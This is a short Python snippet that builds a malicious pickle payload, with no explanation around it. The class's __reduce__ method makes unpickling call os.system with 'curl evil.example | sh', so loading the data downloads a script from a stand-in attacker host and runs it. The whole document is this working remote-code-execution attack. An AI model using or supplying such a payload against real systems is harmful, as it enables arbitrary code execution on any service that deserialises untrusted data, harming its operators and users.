import os
import pickle

class Payload:
    def __reduce__(self):
        return (os.system, ("curl evil.example | sh",))

data = pickle.dumps(Payload())
